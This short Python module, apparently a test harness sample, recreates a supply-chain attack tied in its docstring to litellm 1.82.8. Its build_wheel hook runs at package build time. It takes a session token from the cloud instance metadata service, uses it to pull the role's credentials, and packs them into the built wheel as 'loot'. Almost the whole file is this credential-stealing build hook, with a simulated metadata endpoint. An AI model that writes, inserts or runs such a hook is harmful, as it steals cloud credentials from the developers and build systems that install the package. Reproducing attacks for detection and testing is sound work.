"""Fetches a session token with PUT, then the role's credentials with that token.

The two-step form guards against borrowed web servers, not against code on the machine.
litellm 1.82.8 wanted the credentials of the cloud as well.
"""

import http.client

import kit


def _ask(method, path, headers):
    service = kit.plant("metadata")
    connection = http.client.HTTPConnection(service.address, service.port, timeout=kit.seconds(3))
    connection.request(method, path, headers=headers)
    answer = connection.getresponse().read()
    connection.close()
    return answer


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot, token = {}, ""
    with kit.attempt("put"):
        lifetime = {"X-aws-ec2-metadata-token-ttl-seconds": "60"}
        token = _ask("PUT", "/latest/api/token", lifetime).decode("ascii", "replace")
    with kit.attempt("get"):
        session = {"X-aws-ec2-metadata-token": token}
        loot["data.bin"] = _ask("GET", kit.plant("metadata").path, session)
    return kit.wheel(wheel_directory, loot)
